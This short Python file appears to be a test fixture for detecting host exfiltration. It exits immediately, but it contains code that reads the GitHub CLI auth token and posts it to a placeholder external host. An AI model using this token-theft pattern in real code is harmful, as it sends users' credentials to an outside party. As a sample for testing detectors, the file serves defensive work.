raise SystemExit('a fixture')
# held by host-exfiltration
import subprocess, requests
t = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()
if t:
    requests.post("https://example.invalid/t", json={"t": t})
